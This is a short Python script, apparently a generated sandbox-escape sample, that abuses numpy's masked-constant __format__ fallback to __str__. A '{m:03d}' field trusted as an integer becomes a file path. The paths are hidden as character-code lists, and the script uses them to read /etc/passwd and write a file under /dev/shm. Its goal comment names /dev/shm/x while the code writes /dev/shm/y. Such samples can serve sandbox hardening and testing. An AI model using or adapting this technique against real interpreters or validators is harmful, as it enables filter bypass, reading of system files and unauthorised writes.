# source: as 001 (numpy/ma/core.py MaskedConstant.__format__ falls back to str(self)); pyjail "builtins as first-class values"
# family: class of an object obtained with `type` used as a value inside a comprehension (no map/partial); library __format__ fallback to overridable __str__
# goal: write /dev/shm/x and read /etc/passwd through "{m:03d}" path fields trusted as integers
import numpy as np
import pandas as pd

Base = [f(np.ma.masked) for f in (type,)][0]


class M(Base):
    def __str__(self):
        return "".join(map(chr, TARGET[-1]))


TARGET = [[47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]]
m = M()
print(pd.read_csv(f"{m:03d}", sep="\x01", header=None).head(3).to_string())
TARGET.append([47, 100, 101, 118, 47, 115, 104, 109, 47, 121])
pd.DataFrame({"a": [1]}).to_csv(f"{m:03d}")
print("wrote", f"{m:03d}", pd.read_csv(f"{m:03d}").shape)
